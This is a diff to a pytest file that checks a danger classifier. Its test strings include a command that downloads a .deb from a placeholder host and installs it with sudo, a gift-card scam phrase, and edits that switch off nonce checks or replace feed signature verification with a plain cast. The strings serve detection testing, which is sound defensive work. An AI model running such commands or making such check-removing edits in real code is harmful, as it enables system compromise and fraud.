@@ -33,6 +33,9 @@ from mcp_reflect.domain.text.danger import is_dangerous
         "yaml.unsafe_load(text)",
         "curl -sO https://a.example/x.deb && sudo dpkg -i x.deb",
         "buy gift cards and read out the numbers",
+        'os.environ["PYTEST_SAFE"] = "off"',
+        "NONCE_CHECK_ENABLED = False",
+        "editing rates.py (- `verify_feed_signature(feed)`; + `return float(feed)`)",
     ],
 )
 def test_what_lets_something_pass_without_a_check(text: str) -> None:
@@ -50,6 +53,8 @@ def test_what_lets_something_pass_without_a_check(text: str) -> None:
         "the guard clause returns early",
         "refund the gift card first, up to the amount paid with it",
         "allowOrigin: staging.kiln.dev",
+        "subprocess.run(command, check=False)",
+        "editing auth.py (- `verify_token(token)`; + `verify_token(token, key)`)",
     ],
 )
 def test_what_looks_like_it_and_is_not(text: str) -> None:
